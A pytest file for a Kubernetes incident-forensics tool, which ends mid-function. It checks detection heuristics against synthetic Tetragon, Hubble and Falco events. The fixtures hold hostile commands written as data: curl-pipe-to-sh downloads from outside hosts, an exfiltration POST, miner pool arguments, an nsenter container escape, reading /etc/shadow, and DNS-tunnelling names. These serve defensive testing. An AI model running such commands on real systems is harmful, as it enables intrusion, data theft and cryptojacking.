"""The postmortem heuristics on incidents unlike the bundled one: command injection into a web
service, a payload dropped in /tmp, a policy drop and a Falco alert (no interactive shell); the same
without process events; DNS tunnelling seen by Hubble alone."""

from __future__ import annotations

import base64
import json

import pytest

import kernelsec_nb as kn
from kernelsec_nb.report import heuristics as H

NODE = "worker-2"
POD = "shop-api-6f7d8c9b5-qwxyz"
CID = "9b1f3c7d2e4a" + "0" * 52


def _id(pid: int) -> str:
    return base64.b64encode(f"{NODE}:{pid * 1000}:{pid}".encode()).decode()


def _proc(pid: int, parent: int, binary: str, args: str, t: str, *, init: bool = True) -> dict:
    return {"exec_id": _id(pid), "pid": pid, "uid": 0, "cwd": "/app", "binary": binary, "arguments": args,
            "flags": "execve clone", "start_time": t, "parent_exec_id": _id(parent), "tid": pid,
            "in_init_tree": init, "docker": CID[:31],
            "pod": {"namespace": "shop", "name": POD, "workload": "shop-api",
                    "container": {"id": "containerd://" + CID, "name": "api"}, "pod_labels": {"app": "api"}},
            "cap": {"effective": ["CAP_NET_RAW"]}}


def _exec(pid: int, parent: dict, binary: str, args: str, t: str) -> str:
    proc = _proc(pid, parent["pid"], binary, args, t)
    return json.dumps({"process_exec": {"process": proc, "parent": parent}, "node_name": NODE, "time": t})


def _connect(proc: dict, parent: dict, sport: int, daddr: str, dport: int, t: str) -> str:
    sock = {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "saddr": "10.0.2.7",
            "daddr": daddr, "sport": sport, "dport": dport}
    return json.dumps({"process_kprobe": {"process": proc, "parent": parent, "function_name": "tcp_connect",
                                          "args": [{"sock_arg": sock}], "action": "KPROBE_ACTION_POST"},
                       "node_name": NODE, "time": t})


def _flow(sport: int, daddr: str, dport: int, verdict: str, t: str) -> str:
    flow = {"time": t, "verdict": verdict, "IP": {"source": "10.0.2.7", "destination": daddr, "ipVersion": "IPv4"},
            "l4": {"TCP": {"source_port": sport, "destination_port": dport, "flags": {"SYN": True}}},
            "source": {"namespace": "shop", "pod_name": POD, "labels": ["k8s:app=api"]},
            "destination": {"labels": ["reserved:world"]}, "Type": "L3_L4", "node_name": NODE,
            "traffic_direction": "EGRESS", "is_reply": False}
    if verdict == "DROPPED":
        flow |= {"drop_reason_desc": "POLICY_DENIED"}
    return json.dumps({"flow": flow, "node_name": NODE, "time": t})


def _lines() -> list[str]:
    server = _proc(10, 1, "/usr/local/bin/python3", "app.py", "2026-03-01T08:00:00Z")  # started before
    parent_of = {k: server[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}
    sh = _proc(20, 10, "/bin/sh", "-c 'cd /tmp && curl -s http://203.0.113.9/x | sh'", "2026-03-01T10:00:00Z")
    sh_ref = {k: sh[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}
    miner = _proc(30, 20, "/tmp/.x/kworker", "-o pool.example:3333", "2026-03-01T10:00:02Z")
    health = _proc(40, 10, "/bin/sh", "-c 'wget -q -O- localhost:8080/health'", "2026-03-01T09:30:00Z")
    lines = [
        _connect(server, {"exec_id": _id(1)}, 8080, "10.0.9.9", 5432, "2026-03-01T09:00:00Z"),
        _exec(40, parent_of, health["binary"], health["arguments"], health["start_time"]),  # routine
        _exec(20, parent_of, sh["binary"], sh["arguments"], sh["start_time"]),
        _exec(21, sh_ref, "/usr/bin/curl", "-s http://203.0.113.9/x", "2026-03-01T10:00:00.5Z"),
        _connect(_proc(21, 20, "/usr/bin/curl", "-s http://203.0.113.9/x", "2026-03-01T10:00:00.5Z"), sh_ref,
                 39000, "203.0.113.9", 80, "2026-03-01T10:00:00.6Z"),
        _flow(39000, "203.0.113.9", 80, "FORWARDED", "2026-03-01T10:00:00.601Z"),
        _exec(30, sh_ref, miner["binary"], miner["arguments"], miner["start_time"]),
        _connect(miner, sh_ref, 39001, "198.51.100.7", 3333, "2026-03-01T10:00:03Z"),
        _flow(39001, "198.51.100.7", 3333, "DROPPED", "2026-03-01T10:00:03.001Z"),
        json.dumps({"hostname": NODE, "output": "Drop and execute new binary", "priority": "Critical",
                    "rule": "Drop and execute new binary in container", "source": "syscall", "tags": [],
                    "time": "2026-03-01T10:00:02.1Z",
                    "output_fields": {"container.id": CID[:12], "proc.pid": 30, "proc.name": "kworker",
                                      "proc.exepath": "/tmp/.x/kworker", "k8s.pod.name": POD,
                                      "k8s.ns.name": "shop"}}),
    ]
    return lines


def _case(tmp, lines: list[str]) -> kn.Case:
    (tmp / "capture.json").write_text("\n".join(lines) + "\n")
    c = kn.open_case(tmp / "case.duckdb")
    report = c.load(tmp / "capture.json", progress=False)
    assert report.total("quarantined") == 0
    return c


@pytest.fixture(scope="module")
def case(tmp_path_factory):
    c = _case(tmp_path_factory.mktemp("rce"), _lines())
    yield c
    c.close()


def test_the_shell_a_service_started_is_the_session(case):
    entries = H.session_entries(case)
    top = entries.row(0, named=True)
    assert top["exec_id"] == _id(20) and top["basis"] == "shell started by a service process, with alerts, drops or a payload below it"
    assert (top["alerts"], top["dropped"], top["written"]) == (1, 1, 1)
    assert _id(40) not in entries["exec_id"].to_list()  # the routine health check did nothing suspicious


def test_findings_name_the_pod_the_payload_and_its_flows(case):
    f = H.derive_findings(case)
    assert (f["attacker_namespace"], f["attacker_pod"], f["node"]) == ("shop", POD, NODE)
    assert f["flag_text"] == "/tmp/.x/kworker -o pool.example:3333"
    assert f["flag"]["reason"] == "last process of the session that acted (run from a writable directory)"
    assert f["chain"] == [_id(20), _id(30)]
    assert [(r["dst_port"], r["verdict"]) for r in f["attack_flows"]] == [(80, "FORWARDED")]
    assert [(r["dst_port"], r["verdict"]) for r in f["dropped_flows"]] == [(3333, "DROPPED")]
    assert [a["rule"] for a in f["alerts"]] == ["Drop and execute new binary in container"]
    assert f["notes"] == []
    assert f["entry"]["parent"]["binary"] == "/usr/local/bin/python3"  # the service it came through
    assert [(c["binary"], c["daddr"], c["dport"]) for c in f["connections"]] == [
        ("/usr/bin/curl", "203.0.113.9", 80), ("/tmp/.x/kworker", "198.51.100.7", 3333)]


def test_without_process_events_the_alerts_and_drops_name_the_pod(tmp_path):
    lines = [line.replace('"proc.name": "kworker"', '"proc.name": "kworker", "proc.cmdline": "kworker -o pool.example:3333"')
             for line in _lines() if '"process_' not in line[:20]]
    c = _case(tmp_path, lines)
    f = H.derive_findings(c)
    assert (f["attacker_pod"], f["node"], f["flag_text"]) == (POD, NODE, H.NOT_DETERMINABLE)
    assert f["basis"] == "pod pointed at by Falco alerts, destination(s) a policy refused"
    assert [a["rule"] for a in f["alerts"]] == ["Drop and execute new binary in container"]
    assert [r["dst_port"] for r in f["dropped_flows"]] == [3333]
    # the download just before the alert got through out of the cluster; Falco saw the command
    assert [(r["dst_ip"], r["dst_port"]) for r in f["attack_flows"]] == [("203.0.113.9", 80)]
    assert any(n.startswith("Falco's most severe alert on the pod (Critical 'Drop and execute new binary in container'")
               and n.endswith("saw kworker -o pool.example:3333") for n in f["notes"])
    c.close()


def test_dns_tunnelling_points_at_its_pod(tmp_path):
    def dns(pod: str, name: str, i: int) -> str:
        t = f"2026-03-01T10:00:{i % 60:02d}.{i:06d}Z"
        flow = {"time": t, "verdict": "FORWARDED", "Type": "L7", "node_name": NODE, "is_reply": False,
                "IP": {"source": "10.0.2.8", "destination": "10.0.0.10", "ipVersion": "IPv4"},
                "l4": {"UDP": {"source_port": 50000 + i, "destination_port": 53}},
                "source": {"namespace": "finance", "pod_name": pod, "labels": ["k8s:app=x"]},
                "destination": {"namespace": "kube-system", "pod_name": "coredns-5d78c9869d-abcde"},
                "l7": {"type": "REQUEST", "dns": {"query": name, "qtypes": ["TXT"]}},
                "traffic_direction": "EGRESS"}
        return json.dumps({"flow": flow, "node_name": f"prod/{NODE}", "time": t})

    lines = [dns("reporting-7f8d9c6b5-zz9xq", f"{i:032x}.x.exfil.example.net.", i) for i in range(60)]
    # a CDN's hashed names, asked about again and again, and the cluster's own long service names
    lines += [dns("shop-5f6d7c8b9-abcde", f"{i % 12:032x}.cloudfront.net.", 200 + i) for i in range(120)]
    lines += [dns("shop-5f6d7c8b9-abcde", f"payments-processor-v{i}.finance.svc.cluster.local.", 400 + i)
              for i in range(60)]
    # a busy but ordinary pod: many lookups of a few service names
    lines += [dns("web-5f6d7c8b9-abcde", "api.finance.svc.cluster.local.", 100 + i) for i in range(40)]
    c = _case(tmp_path, lines)
    f = H.derive_findings(c)
    assert (f["attacker_pod"], f["node"]) == ("reporting-7f8d9c6b5-zz9xq", NODE)
    assert f["notes"][0] == "what points at the pod: 60 long DNS names under example.net"
    assert len(f["attack_flows"]) == 60
    c.close()


@pytest.mark.parametrize("schema", ["new", "old"])
def test_an_escape_through_nsenter_is_an_exec_session(tmp_path, schema):
    # kubectl exec -> sh -> nsenter -t 1 -> bash -> cat /etc/shadow; old exports have no in_init_tree
    def proc(pid, parent, binary, args, t, init):
        p = _proc(pid, parent, binary, args, t, init=init)
        if schema == "old":
            del p["in_init_tree"]
        return p

    def ref(p):
        return {k: p[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}

    shim = {"exec_id": _id(2), "pid": 2, "binary": "/usr/bin/containerd-shim-runc-v2", "arguments": "-id x"}
    agent = proc(5, 2, "/usr/bin/agent", "--run", "2026-03-01T08:00:00Z", True)
    sh = proc(50, 2, "/bin/sh", "", "2026-03-01T10:00:00Z", False)
    nsenter = proc(51, 50, "/usr/bin/nsenter", "-t 1 -m -u -i -n -- /bin/bash", "2026-03-01T10:00:01Z", False)
    bash = proc(52, 51, "/bin/bash", "", "2026-03-01T10:00:02Z", False)
    cat = proc(53, 52, "/bin/cat", "/etc/shadow", "2026-03-01T10:00:03Z", False)
    lines = [json.dumps({"process_exec": {"process": agent, "parent": shim}, "node_name": NODE, "time": agent["start_time"]})]
    for p, parent in ((sh, shim), (nsenter, ref(sh)), (bash, ref(nsenter)), (cat, ref(bash))):
        lines.append(json.dumps({"process_exec": {"process": p, "parent": parent}, "node_name": NODE, "time": p["start_time"]}))
    lines.append(json.dumps({"process_kprobe": {"process": cat, "parent": ref(bash), "function_name": "security_file_open",
                                                "args": [{"file_arg": {"path": "/etc/shadow"}}]},
                             "node_name": NODE, "time": "2026-03-01T10:00:03.1Z"}))
    c = _case(tmp_path, lines)
    f = H.derive_findings(c)
    assert f["basis"] == "interactive shell outside the init tree"
    assert (f["attacker_pod"], f["chain_text"]) == (POD, "sh → nsenter")  # the namespace tool is the key
    assert "a namespace tool" in f["flag"]["reason"]
    assert [h["file_path"] for h in f["hooks"]] == ["/etc/shadow"]
    assert _id(52) not in H.session_entries(c)["exec_id"].to_list()  # bash under nsenter: no service's shell
    c.close()


def test_ordinary_life_is_not_an_attack(tmp_path):
    # an administrator's exec'd shell that only looks around, a CI build running its test binary
    # from /tmp, and a monitoring agent (the container's own process) that Falco finds noisy
    def exec_line(pid, parent, binary, args, t, init):
        p = _proc(pid, parent["pid"], binary, args, t, init=init)
        return p, json.dumps({"process_exec": {"process": p, "parent": parent}, "node_name": NODE, "time": t})

    shim = {"exec_id": _id(2), "pid": 2, "binary": "/usr/bin/containerd-shim-runc-v2"}
    agent, a = exec_line(5, shim, "/opt/agent/bin/agent", "run", "2026-03-01T08:00:00Z", True)
    sh, b = exec_line(50, shim, "/bin/sh", "", "2026-03-01T09:00:00Z", False)
    ls, c = exec_line(51, {"exec_id": sh["exec_id"], "pid": 50, "binary": "/bin/sh"}, "/bin/ls", "/etc",
                      "2026-03-01T09:00:01Z", False)
    runner, d = exec_line(60, agent, "/usr/bin/go", "test ./...", "2026-03-01T09:10:00Z", True)
    test, e = exec_line(61, {"exec_id": runner["exec_id"], "pid": 60, "binary": "/usr/bin/go"},
                        "/tmp/go-build123/b001/app.test", "-test.v", "2026-03-01T09:10:05Z", True)
    noise = json.dumps({"hostname": NODE, "output": "Sensitive file opened", "priority": "Warning",
                        "rule": "Read sensitive file untrusted", "source": "syscall", "tags": [],
                        "time": "2026-03-01T08:30:00Z",
                        "output_fields": {"container.id": CID[:12], "proc.pid": 5, "proc.name": "agent",
                                          "k8s.pod.name": POD, "k8s.ns.name": "shop"}})
    c_ = _case(tmp_path, [a, b, c, d, e, noise])
    f = H.derive_findings(c_)
    assert f["attacker_pod"] is None and f["flag"] is None
    assert "did nothing suspicious" in f["notes"][0] and "an administrator's?" in f["notes"][0]
    entries = H.session_entries(c_)
    assert entries["exec_id"].to_list() == [_id(50)] and entries["quiet"].to_list() == [True]
    c_.close()


SHIM = {"exec_id": _id(2), "pid": 2, "binary": "/usr/bin/containerd-shim-runc-v2", "arguments": "-id x"}


def _ref(p: dict) -> dict:
    return {k: p[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}


def _run(pid: int, parent: dict, binary: str, args: str, t: str, *, init: bool = False) -> tuple[dict, str]:
    p = _proc(pid, parent["pid"], binary, args, t, init=init)
    return p, json.dumps({"process_exec": {"process": p, "parent": parent}, "node_name": NODE, "time": t})


def _sighting(sport: int, daddr: str, dport: int, verdict: str, t: str, node: str = NODE, dst_pod: str | None = None,
              method: str | None = None) -> str:
    line = json.loads(_flow(sport, daddr, dport, verdict, t))
    f = line["flow"]
    f["node_name"] = line["node_name"] = node
    f["traffic_direction"] = "EGRESS" if node == NODE else "INGRESS"
    if dst_pod:
        f["destination"] = {"namespace": "shop", "pod_name": dst_pod, "labels": ["k8s:app=db"]}
    if method:
        f |= {"Type": "L7", "l7": {"type": "REQUEST", "http": {"method": method, "url": f"http://{daddr}/v1/all"}}}
    return json.dumps(line)


def test_a_connection_dropped_on_its_other_node_did_not_get_through_and_the_exfiltration_is_key(tmp_path):
    # kubectl exec -> sh -> /tmp/.x/pscan (let out by its node, dropped by the destination's) ->
    # curl POST to an address outside the cluster (after the scan tool: the last that acted)
    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    scan, b = _run(51, _ref(sh), "/tmp/.x/pscan", "10.0.5.5", "2026-03-01T10:00:01Z")
    curl, c = _run(52, _ref(sh), "/usr/bin/curl", "-X POST --data-binary @dump https://203.0.113.50/up",
                   "2026-03-01T10:00:05Z")
    lines = [a, b, c,
             _connect(scan, _ref(sh), 40001, "10.0.5.5", 22, "2026-03-01T10:00:01.1Z"),
             _sighting(40001, "10.0.5.5", 22, "FORWARDED", "2026-03-01T10:00:01.101Z", dst_pod="db-0"),
             _sighting(40001, "10.0.5.5", 22, "DROPPED", "2026-03-01T10:00:01.102Z", node="worker-9", dst_pod="db-0"),
             _connect(curl, _ref(sh), 40002, "203.0.113.50", 443, "2026-03-01T10:00:05.1Z"),
             _sighting(40002, "203.0.113.50", 443, "FORWARDED", "2026-03-01T10:00:05.101Z")]
    dns = json.loads(_sighting(40003, "10.0.0.10", 53, "FORWARDED", "2026-03-01T10:00:04Z"))
    dns["flow"]["l4"] = {"UDP": {"source_port": 40003, "destination_port": 53}}
    dns["flow"] |= {"Type": "L7", "l7": {"type": "REQUEST", "dns": {"query": "db.shop.svc.cluster.local."}}}
    lines.append(json.dumps(dns))  # the pod's lookup: UDP, no connect hook to match it to a process
    # the DNS server's node saw it at L4 only, and its clock reads a little behind: the same lookup
    l4 = json.loads(_sighting(40003, "10.0.0.10", 53, "FORWARDED", "2026-03-01T10:00:03.9Z", node="worker-9"))
    l4["flow"]["l4"] = {"UDP": {"source_port": 40003, "destination_port": 53}}
    lines.append(json.dumps(l4))
    c_ = _case(tmp_path, lines)
    f = H.derive_findings(c_)
    assert [(r["dst_port"], r["dns_query"], r["exec_id"]) for r in f["pod_flows"]] == [
        (53, "db.shop.svc.cluster.local.", None)]
    assert f["flag_text"] == curl["binary"] + " " + curl["arguments"]
    assert f["flag"]["reason"] == "last process of the session that acted (a connection that got through with an effect)"
    assert [(r["dst_port"], r["verdict"]) for r in f["attack_flows"]] == [(443, "FORWARDED")]
    assert [(r["dst_port"], r["verdict"], r["node"]) for r in f["dropped_flows"]] == [(22, "DROPPED", "worker-9")]
    edges = [(r["to"], r["verdict"]) for r in kn.viz.flow_chart(c_).to_dict()["layer"][1]["data"]["values"]]
    assert ("shop/db", "DROPPED") in edges and ("shop/db", "FORWARDED") not in edges
    c_.close()


def test_a_way_around_a_policy_is_key_and_a_one_off_exec_is_found_beside_a_quiet_shell(tmp_path):
    # an administrator's shell that only listed files, and a one-off `kubectl exec -- bash -c ...`
    # whose DELETE was refused, then sent to another port of the same pod, where it got through
    admin, a = _run(60, SHIM, "/bin/sh", "", "2026-03-01T09:00:00Z")
    _, b = _run(61, _ref(admin), "/bin/ls", "/etc", "2026-03-01T09:00:01Z")
    one, c = _run(70, SHIM, "/bin/bash", "-c 'wget --method=DELETE http://db/v1/all; curl -X DELETE db:8081/v1/all'",
                  "2026-03-01T10:00:00Z")
    wget, d = _run(71, _ref(one), "/usr/bin/wget", "--method=DELETE http://db/v1/all", "2026-03-01T10:00:00.1Z")
    curl, e = _run(72, _ref(one), "/usr/bin/curl", "-X DELETE db:8081/v1/all", "2026-03-01T10:00:01Z")
    lines = [a, b, c, d, e,
             _connect(wget, _ref(one), 41001, "10.0.5.5", 80, "2026-03-01T10:00:00.2Z"),
             _sighting(41001, "10.0.5.5", 80, "DROPPED", "2026-03-01T10:00:00.201Z", dst_pod="db-0", method="DELETE"),
             _connect(curl, _ref(one), 41002, "10.0.5.5", 8081, "2026-03-01T10:00:01.1Z"),
             _sighting(41002, "10.0.5.5", 8081, "FORWARDED", "2026-03-01T10:00:01.101Z", dst_pod="db-0")]
    c_ = _case(tmp_path, lines)
    f = H.derive_findings(c_)
    assert (f["basis"], f["entry"]["exec_id"]) == ("rare command outside the init tree", _id(70))
    assert f["flag_text"] == "/usr/bin/curl -X DELETE db:8081/v1/all"
    assert any("did nothing suspicious" in n for n in f["notes"])  # the administrator's shell
    c_.close()


def test_a_payload_a_service_started_is_found_from_its_hooks_alone(tmp_path):
    # Tetragon only: python3 (the service) -> sh -c -> /tmp/.x/kworker reads /etc/shadow and connects
    # out of the cluster; the same service's pip build runs binaries from /tmp too, and is left alone
    server, a = _run(10, {"exec_id": _id(1), "pid": 1}, "/usr/local/bin/python3", "-m jupyter", "2026-03-01T08:00:00Z",
                     init=True)
    sh, b = _run(20, _ref(server), "/bin/sh", "-c 'curl -so /tmp/.x/kworker http://198.51.100.23/k; /tmp/.x/kworker'",
                 "2026-03-01T10:00:00Z", init=True)
    payload, c = _run(21, _ref(sh), "/tmp/.x/kworker", "", "2026-03-01T10:00:02Z", init=True)
    pip_sh, d = _run(30, _ref(server), "/bin/sh", "-c 'pip install xgboost'", "2026-03-01T09:00:00Z", init=True)
    _, e = _run(31, _ref(pip_sh), "/tmp/pip-build-env-1/bin/ninja", "-C build", "2026-03-01T09:00:05Z", init=True)
    shadow = json.dumps({"process_kprobe": {"process": payload, "parent": _ref(sh), "function_name": "security_file_permission",
                                            "args": [{"file_arg": {"path": "/etc/shadow"}}, {"int_arg": 4}]},
                         "node_name": NODE, "time": "2026-03-01T10:00:02.5Z"})
    lines = [a, b, c, d, e, shadow, _connect(payload, _ref(sh), 42000, "198.51.100.23", 443, "2026-03-01T10:00:03Z")]
    c_ = _case(tmp_path, lines)
    entries = H.session_entries(c_)
    assert entries["exec_id"].to_list() == [_id(20)]
    assert entries.select("sensitive", "outside").row(0) == (1, 1)
    f = H.derive_findings(c_)
    assert (f["attacker_pod"], f["flag_text"], f["chain_text"]) == (POD, "/tmp/.x/kworker", "sh → kworker")
    # the service's process tree, by depth and start time (the capture lists them out of order)
    assert c_.descendants(_id(10))["pid"].to_list() == [10, 30, 20, 31, 21]
    c_.close()


def _put_sightings(sport: int, t: str) -> list[str]:
    """A PUT request as Hubble sees it: on the source's node (egress) and the destination's (ingress)."""
    return [_sighting(sport, "10.0.5.5", 80, "FORWARDED", t, dst_pod="db-0", method="PUT"),
            _sighting(sport, "10.0.5.5", 80, "FORWARDED", t[:-2] + "5Z", node="worker-9", dst_pod="db-0", method="PUT")]


def test_a_request_seen_on_two_nodes_counts_once_and_a_kill_that_killed_nothing_is_not_key(tmp_path):
    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    curl, b = _run(51, _ref(sh), "/usr/bin/curl", "-X PUT http://db/x", "2026-03-01T10:00:01Z")
    _, c = _run(52, _ref(sh), "/bin/kill", "-9 1", "2026-03-01T10:00:09Z")  # pid 1 of a container ignores it
    lines = [a, b, c, _connect(curl, _ref(sh), 41001, "10.0.5.5", 80, "2026-03-01T10:00:01.1Z"),
             *_put_sightings(41001, "2026-03-01T10:00:01.101Z")]
    c_ = _case(tmp_path, lines)
    f = H.derive_findings(c_)
    assert f["flag_text"] == "/usr/bin/curl -X PUT http://db/x"
    assert [(r["node"], r["http_method"]) for r in f["attack_flows"]] == [(NODE, "PUT")]  # one request
    c_.close()


def test_without_flows_a_retried_command_is_its_first_run_and_without_processes_a_rare_request_counts_once(tmp_path):
    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    runs = [_run(51 + i, _ref(sh), "/usr/bin/curl", "-X PUT http://db/x", f"2026-03-01T10:0{i}:01Z") for i in range(3)]
    connects = [_connect(p, _ref(sh), 41001 + i, "10.0.5.5", 80, f"2026-03-01T10:0{i}:01.1Z") for i, (p, _) in enumerate(runs)]
    (tmp_path / "t").mkdir()
    c_ = _case(tmp_path / "t", [a, *(line for _, line in runs), *connects])
    f = H.derive_findings(c_)
    assert f["flag"]["pid"] == 51 and "its first run" in f["flag"]["reason"]
    c_.close()
    # Hubble only: three PUTs, each seen on two nodes (six sightings), among many GETs: still rare
    gets = [_sighting(42000 + i, "10.0.5.5", 80, "FORWARDED", f"2026-03-01T09:{i:02d}:00Z", dst_pod="db-0",
                      method="GET") for i in range(40)]
    puts = [x for i in range(3) for x in _put_sightings(41001 + i, f"2026-03-01T10:0{i}:01.101Z")]
    (tmp_path / "n").mkdir()
    c_ = _case(tmp_path / "n", gets + puts)
    assert H.rare_requests(c_)["http_method"].unique().to_list() == ["PUT"]
    f = H.derive_findings(c_)
    assert (f["attacker_pod"], len(f["attack_flows"])) == (POD, 3)
    c_.close()


def _alert(pid: int, rule: str, t: str) -> str:
    return json.dumps({"hostname": NODE, "output": rule, "priority": "Warning", "rule": rule, "source": "syscall",
                       "tags": [], "time": t, "output_fields": {"container.id": CID[:12], "proc.pid": pid,
                                                                "k8s.pod.name": POD, "k8s.ns.name": "shop"}})


def test_a_busy_benign_cluster_is_not_an_attack(tmp_path):
    # CI jobs (routine build steps, a one-off release build uploading its artefact), a backup job's
    # /tmp tool run twice, an operator's exec'd shells (a config reload by SIGHUP that killed
    # nothing, psql to the database, a `go mod download`), a worker retrying a denied upstream
    runner, a = _run(10, {"exec_id": _id(1), "pid": 1}, "/usr/bin/gitlab-runner", "run", "2026-03-01T08:00:00Z", init=True)
    lines = [a]
    pid = 100
    for i in range(2):  # the same build step twice: routine, with what runs below it
        step, x = _run(pid, _ref(runner), "/bin/sh", "-c 'go test ./...'", f"2026-03-01T09:0{i}:00Z", init=True)
        go, y = _run(pid + 1, _ref(step), "/usr/local/go/bin/go", "test ./...", f"2026-03-01T09:0{i}:01Z", init=True)
        _, z = _run(pid + 2, _ref(go), f"/tmp/go-build{i}/b001/api.test", "-test.v", f"2026-03-01T09:0{i}:05Z", init=True)
        lines += [x, y, z, _alert(pid + 2, "Drop and execute new binary in container", f"2026-03-01T09:0{i}:05.1Z")]
        pid += 10
    release, x = _run(200, _ref(runner), "/bin/sh", "-c 'cargo build --release && ./upload.sh'", "2026-03-01T09:30:00Z", init=True)
    cargo, y = _run(201, _ref(release), "/usr/local/cargo/bin/cargo", "build --release", "2026-03-01T09:30:01Z", init=True)
    _, z = _run(202, _ref(cargo), "/tmp/cargo-target/release/build/x/build-script-build", "", "2026-03-01T09:30:05Z", init=True)
    upload, w = _run(203, _ref(release), "/usr/bin/curl", "--upload-file app https://artifacts.example/up",
                     "2026-03-01T09:31:00Z", init=True)
    lines += [x, y, z, w, _alert(201, "Launch Package Management Process in Container", "2026-03-01T09:30:01.1Z"),
              _alert(202, "Drop and execute new binary in container", "2026-03-01T09:30:05.1Z"),
              _connect(upload, _ref(release), 43000, "52.216.44.10", 443, "2026-03-01T09:31:00.1Z"),
              _sighting(43000, "52.216.44.10", 443, "FORWARDED", "2026-03-01T09:31:00.101Z")]
    backup, x = _run(300, {"exec_id": _id(299), "pid": 299}, "/usr/bin/python3", "/opt/backup/run.py", "2026-03-01T08:30:00Z", init=True)
    lines.append(x)
    for i in range(2):
        restic, y = _run(301 + i, _ref(backup), "/tmp/restic", "backup /data", f"2026-03-01T0{8 + i}:30:05Z", init=True)
        lines += [y, _connect(restic, _ref(backup), 44000 + i, "52.217.1.1", 443, f"2026-03-01T0{8 + i}:30:06Z")]
    sh, x = _run(400, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    _, y = _run(401, _ref(sh), "/bin/kill", "-HUP 1", "2026-03-01T10:00:05Z")
    bash, z = _run(410, SHIM, "/bin/bash", "", "2026-03-01T10:10:00Z")
    psql, w = _run(411, _ref(bash), "/usr/bin/psql", "-h postgres orders", "2026-03-01T10:10:05Z")
    gomod, v = _run(412, _ref(bash), "/usr/local/go/bin/go", "mod download", "2026-03-01T10:12:00Z")
    lines += [x, y, z, w, v, _alert(400, "Terminal shell in container", "2026-03-01T10:00:00.1Z"),
              _connect(psql, _ref(bash), 45000, "10.0.5.5", 5432, "2026-03-01T10:10:05.1Z"),
              _sighting(45000, "10.0.5.5", 5432, "FORWARDED", "2026-03-01T10:10:05.101Z", dst_pod="postgres-0"),
              _connect(gomod, _ref(bash), 45001, "142.250.1.1", 443, "2026-03-01T10:12:00.1Z"),
              _sighting(45001, "142.250.1.1", 443, "FORWARDED", "2026-03-01T10:12:00.101Z")]
    worker, x = _run(500, {"exec_id": _id(499), "pid": 499}, "/usr/bin/supervisord", "-n", "2026-03-01T08:00:00Z", init=True)
    reco, y = _run(501, _ref(worker), "/usr/local/bin/recommender", "--upstream inventory", "2026-03-01T08:05:00Z", init=True)
    lines += [x, y] + [line for i in range(5) for line in (
        _connect(reco, _ref(worker), 46000 + i, "10.0.6.6", 8080, f"2026-03-01T08:1{i}:00Z"),
        _sighting(46000 + i, "10.0.6.6", 8080, "DROPPED", f"2026-03-01T08:1{i}:00.001Z", dst_pod="inventory-0"))]
    c_ = _case(tmp_path, lines)
    f = H.derive_findings(c_)
    assert (f["basis"] or "").startswith("pod pointed at") or f["attacker_pod"] is None, f["basis"]
    assert f["flag"] is None
    entries = H.session_entries(c_)
    assert entries["quiet"].all() and set(entries["exec_id"]) == {_id(400), _id(410)}
    c_.close()


def _in_pod(line: str, pod: str, cid: str) -> str:
    """An exec line of :func:`_run` moved to another pod and container (same workload)."""
    ev = json.loads(line)
    proc = ev["process_exec"]["process"]
    proc["pod"] = {**proc["pod"], "name": pod, "container": {"id": "containerd://" + cid * 64, "name": "api"}}
    proc["docker"] = (cid * 31)[:31]
    return json.dumps(ev)


def _critical(pid: int, rule: str, t: str, cid: str = CID[:12]) -> str:
    line = json.loads(_alert(pid, rule, t))
    line["priority"] = "Critical"
    line["output_fields"]["container.id"] = cid
    return json.dumps(line)


def test_a_rogue_containers_main_process_is_the_session_and_its_own_key_command(tmp_path):
    # a workload whose first process is a miner: no shell, no exec, all in the init tree
    miner, a = _run(10, SHIM, "/usr/local/bin/metrics-helper", "--pool stratum+tcp://pool.example:4444",
                    "2026-03-01T08:00:00Z", init=True)
    _, b = _run(11, _ref(miner), "/bin/sh", "-c nproc", "2026-03-01T08:00:01Z", init=True)
    lines = [a, b, _critical(10, "Detect outbound connections to common miner pool ports", "2026-03-01T08:00:02Z"),
             _connect(miner, SHIM, 40000, "45.9.148.108", 4444, "2026-03-01T08:00:02Z")]
    c_ = _case(tmp_path, lines)
    f = H.derive_findings(c_)
    assert f["basis"] == "container main process with critical alerts or a payload"
    assert (f["attacker_pod"], f["flag_text"]) == (POD, "/usr/local/bin/metrics-helper --pool stratum+tcp://pool.example:4444")
    assert f["flag"]["reason"].startswith("the session entry itself")
    c_.close()


def test_a_backdoor_every_new_replica_runs_once_is_no_routine(tmp_path):
    # old pods of the workload run the service only; the two new pods each run the dropper once
    lines = []
    for i, (pod, cid, backdoored) in enumerate((("shop-api-6f7d8c9b5-bbbbb", "b", False), ("shop-api-6f7d8c9b5-ccccc", "c", False),
                                                ("shop-api-7d8c9b5f6-ddddd", "d", True), ("shop-api-7d8c9b5f6-fffff", "f", True))):
        base = 100 * (i + 1)
        server, a = _run(base, SHIM, "/usr/local/bin/node", "/app/server.js", f"2026-03-01T0{8 + i}:00:00Z", init=True)
        lines.append(_in_pod(a, pod, cid))
        if backdoored:
            sh, b = _run(base + 1, _ref(server), "/bin/sh", "-c 'curl -s http://203.0.113.77/x.sh | sh'",
                         f"2026-03-01T0{8 + i}:00:10Z", init=True)
            _, c = _run(base + 2, _ref(sh), "/dev/shm/.cache/kthreadd", "", f"2026-03-01T0{8 + i}:00:12Z", init=True)
            lines += [_in_pod(b, pod, cid), _in_pod(c, pod, cid),
                      _critical(base + 2, "Drop and execute new binary in container", f"2026-03-01T0{8 + i}:00:12.1Z", cid * 12)]
    c_ = _case(tmp_path, lines)
    f = H.derive_findings(c_)
    assert f["flag_text"] == "/dev/shm/.cache/kthreadd"
    assert f["attacker_pod"] in ("shop-api-7d8c9b5f6-ddddd", "shop-api-7d8c9b5f6-fffff")
    assert "others in shop/shop-api-7d8c9b5f6-" in f["notes"][-1]  # the other new pod is named too
    c_.close()


def test_a_kill_without_a_signal_flag_that_killed_is_key(tmp_path):
    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
